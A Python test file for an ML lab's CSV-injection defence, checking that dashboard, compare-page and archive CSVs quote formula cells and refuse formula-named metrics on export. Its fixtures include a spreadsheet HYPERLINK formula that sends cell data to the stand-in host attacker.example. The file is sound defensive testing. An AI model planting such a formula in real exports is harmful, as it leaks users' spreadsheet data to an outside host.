"""CSV injection: every CSV the lab writes (a run archive's metrics, the dashboard's downloads) goes through one
rule, `cache.archive.csv_cells.csv_cell`: a text cell a spreadsheet would run as a formula gets a leading quote,
a number stays a number. An archive's metric names must be the lab's, so the round trip stays exact."""

import csv
import io
import sqlite3
from contextlib import closing

import pandas as pd
import pytest

from cache import RunStatus, Store
from cache.archive.csv_cells import csv_cell
from cache.archive.format import ArchiveError
from cache.archive.writer import write_archive
from cache.store.archive_io import archive_runs
from engine.cli import main
from engine.jobs.transfer import import_runs, prepare_export
from tests.cache.store.test_maintenance import make_run
from tests.helpers import unzip

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def test_one_rule_neutralises_every_csv_cell():
    from app.common import safe_text

    assert safe_text.csv_cell is csv_cell  # the dashboard's CSVs and the archive's share one rule
    hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
    assert [csv_cell(v) for v in hostile] == ["'" + v for v in hostile]
    assert [csv_cell(v) for v in (-0.5, -3, 0.0, "epsilon", "", None)] == [-0.5, -3, 0.0, "epsilon", "", None]


def test_the_dashboard_csv_keeps_negative_numbers_and_quotes_text_formulas():
    from app.common.safe_text import csv_bytes

    table = pd.DataFrame({"delta": [-0.5, 1e-5], "note": ["-0.5 as text", HYPERLINK], "=col": [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
    assert rows[0] == ["delta", "note", "'=col"]
    assert rows[1] == ["-0.5", "'-0.5 as text", "1"] and rows[2][1] == "'" + HYPERLINK
    assert pd.read_csv(io.BytesIO(csv_bytes(table)))["delta"].tolist() == [-0.5, 1e-5]  # still numbers


def test_the_compare_csv_quotes_a_formula_and_keeps_numbers(tmp_path):
    """The Compare page's download: a failed run's error written as a formula is text there; a negative result
    value stays a number."""
    from app.compare import frames

    store = Store(tmp_path / "runs.sqlite3")
    run_id = make_run(store, RunStatus.QUEUED)
    store.claim_next("w")
    store.finish(run_id, status=RunStatus.FAILED, error=HYPERLINK, result={"test_loss": -0.5, "note": "@SUM(A1)"})
    table = pd.read_csv(io.BytesIO(frames.table_csv(frames.comparison_table([store.get_run(run_id)]))))
    assert table.loc[0, "error"] == "'" + HYPERLINK and table.loc[0, "note"] == "'@SUM(A1)"
    assert table.loc[0, "test_loss"] == -0.5  # read back as a number: not quoted


def test_an_export_never_writes_a_formula_metric_name(tmp_path, capsys, monkeypatch):
    """A store holding a metric named as a formula (written there by anything but the lab) is not exported: the
    name is refused naming the run and the field, no file is written; negative values stay plain numbers."""
    monkeypatch.setenv("DPLAB_HOME", str(tmp_path / "home"))
    store = Store(tmp_path / "home" / "runs.sqlite3")
    run_id = make_run(store)
    with closing(sqlite3.connect(store.path)) as db, db:
        db.execute("UPDATE metrics SET value = -0.5 WHERE run_id = ? AND step = 1 AND name = 'epsilon'", (run_id,))
    good = tmp_path / "good.zip"
    assert main(["export", run_id, "-o", str(good)]) == 0
    text = unzip(good.read_bytes())[f"metrics/{run_id}.csv"].decode()
    assert "1,epsilon,-0.5\n" in text and "'" not in text
    store.append_metrics(run_id, [(2, {HYPERLINK: 1.0})], advance=False)
    bad = tmp_path / "bad.zip"
    assert main(["export", run_id, "-o", str(good), "--force"]) == 0  # by default an unknown name stays here
    assert main(["export", run_id, "-o", str(bad), "--include-private-diagnostics"]) == 2
    err = capsys.readouterr().err
    assert HYPERLINK not in unzip(good.read_bytes())[f"metrics/{run_id}.csv"].decode()
    assert f"metrics/{run_id}.csv" in err and "name must be a metric name" in err and err.count("\n") == 1, err
    assert not bad.exists()
    with pytest.raises(ArchiveError, match="name must be a metric name"):
        write_archive(archive_runs(store, [run_id], engine_version="0")[0])


def test_a_metric_name_round_trips_exactly(tmp_path):
    """The lab's own names travel unchanged: neutralising never touches them (none starts with a formula
    character), so an archive written then imported gives back the names the store had."""
    source = Store(tmp_path / "source.sqlite3")
    run_id = make_run(source)
    target = Store(tmp_path / "target.sqlite3")
    import_runs(target, prepare_export(source, [run_id], include_private_diagnostics=True).data)
    assert target.metrics(run_id) == source.metrics(run_id)
